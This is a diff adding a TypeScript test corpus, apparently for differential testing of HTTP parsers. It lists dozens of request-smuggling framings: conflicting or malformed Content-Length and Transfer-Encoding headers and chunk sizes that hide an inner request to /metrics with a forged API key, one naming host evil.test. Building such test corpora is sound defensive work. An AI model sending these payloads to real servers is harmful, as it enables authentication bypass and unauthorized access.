@@ -1,0 +1,90 @@
+/** Bodies that two programs may see end at different places. Pure. */
+import { FORGED } from "./forged.ts";
+
+const INNER = `GET /metrics HTTP/1.1\r\nHost: www.portfolio.test\r\nX-Corpus: {{index}}\r\nX-Smuggled: 1\r\nX-Api-Key: ${FORGED}\r\nX-Auth-Subject: person-1\r\n\r\n`;
+const hex = (text: string): string => text.length.toString(16);
+/** Placeholders are filled before lengths would be counted: the index always has six digits. */
+const SIZE = INNER.replace("{{index}}", "000000").length;
+const CHUNKED = `${SIZE.toString(16)}\r\n${INNER}\r\n0\r\n\r\n`;
+const SHORT = "0\r\n\r\n";
+
+/** Header lines and a body, framed in ways that disagree; the body hides another request. */
+export const FRAMINGS: readonly { readonly lines: readonly string[]; readonly body: string }[] = [
+  { lines: [`Content-Length: ${SIZE}`], body: INNER },
+  { lines: ["Transfer-Encoding: chunked"], body: CHUNKED },
+  { lines: [`Content-Length: ${SIZE + SHORT.length}`, "Transfer-Encoding: chunked"], body: SHORT + INNER },
+  { lines: ["Content-Length: 4", "Transfer-Encoding: chunked"], body: CHUNKED },
+  { lines: ["Transfer-Encoding: chunked", "Content-Length: 4"], body: CHUNKED },
+  ...[
+    "Transfer-Encoding: xchunked",
+    "Transfer-Encoding : chunked",
+    "Transfer-Encoding:\tchunked",
+    "Transfer-Encoding:\x0bchunked",
+    "Transfer-Encoding: chunked\x0b",
+    "Transfer-Encoding: \0chunked",
+    "Transfer-Encoding: chunked, identity",
+    "Transfer-Encoding: identity, chunked",
+    "Transfer-Encoding: chunked, chunked",
+    "Transfer-Encoding: identity",
+    "Transfer-Encoding: gzip, chunked",
+    "Transfer-Encoding: CHUNKED",
+    "Transfer-Encoding: chunked;q=1",
+    'Transfer-Encoding: "chunked"',
+    "Transfer_Encoding: chunked",
+    "Transfer-Encoding\x0b: chunked",
+    " Transfer-Encoding: chunked",
+    "X: y\nTransfer-Encoding: chunked",
+    "X: y\rTransfer-Encoding: chunked",
+    "Transfer-Encoding:\r\n chunked",
+    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
+    "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
+    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
+  ].flatMap((line) => [
+    { lines: [line, `Content-Length: ${SIZE + SHORT.length}`], body: SHORT + INNER },
+    { lines: [line], body: CHUNKED },
+  ]),
+  ...[
+    `Content-Length: ${SIZE}\r\nContent-Length: ${SIZE}`,
+    `Content-Length: 0\r\nContent-Length: ${SIZE}`,
+    `Content-Length: ${SIZE}\r\nContent-Length: 0`,
+    `Content-Length: ${SIZE}, ${SIZE}`,
+    `Content-Length: 0, ${SIZE}`,
+    `Content-Length: +${SIZE}`,
+    `Content-Length: -1`,
+    `Content-Length: 0x${SIZE.toString(16)}`,
+    `Content-Length: ${SIZE} 0`,
+    `Content-Length : ${SIZE}`,
+    `Content-Length:\x0b${SIZE}`,
+    `Content_Length: ${SIZE}`,
+    "Content-Length:",
+    "Content-Length: 99999999999999999999",
+    "Content-Length: 2000000",
+    "Content-Length: 1e2",
+    `X: y\nContent-Length: ${SIZE}`,
+    `Content-Length: 00000000${SIZE}`,
+  ].map((line) => ({ lines: [line], body: INNER })),
+  ...[
+    `${SIZE.toString(16)};a=b\r\n${INNER}\r\n0\r\n\r\n`,
+    `${SIZE.toString(16)};a="\r\n${INNER}\r\n0\r\n\r\n`,
+    `${SIZE.toString(16)};\n${INNER}\r\n0\r\n\r\n`,
+    `${SIZE.toString(16)} \r\n${INNER}\r\n0\r\n\r\n`,
+    `0x${SIZE.toString(16)}\r\n${INNER}\r\n0\r\n\r\n`,
+    `+${SIZE.toString(16)}\r\n${INNER}\r\n0\r\n\r\n`,
+    `-1\r\n${INNER}\r\n0\r\n\r\n`,
+    `fffffffffffffffff\r\n${INNER}\r\n0\r\n\r\n`,
+    `${SIZE.toString(16)}\n${INNER}\n0\n\n`,
+    `${SIZE.toString(16)}\r\n${INNER}0\r\n\r\n`,
+    `${SIZE.toString(16)}\r\n${INNER}xx0\r\n\r\n`,
+    `\r\n${CHUNKED}`,
+    `${SIZE.toString(16)}\r${INNER}\r0\r\r`,
+    `1;\r\nA\r\n0;\n\r\n\r\n${INNER}`,
+    `0\r\nX-Api-Key: ${FORGED}\r\nHost: evil.test\r\n\r\n`,
+    `0\r\nContent-Length: 5\r\n\r\n${INNER}`,
+    `0\n\n${INNER}`,
+    `00\r\n\r\n${INNER}`,
+    `${hex("abc")}\r\nabc\r\n0\r\n\r\n${INNER}`,
+    `5\r\nabc\r\n0\r\n\r\n${INNER}`,
+  ].map((body) => ({ lines: ["Transfer-Encoding: chunked"], body })),
+  { lines: [], body: INNER },
+  { lines: ["Connection: close"], body: INNER },
+];
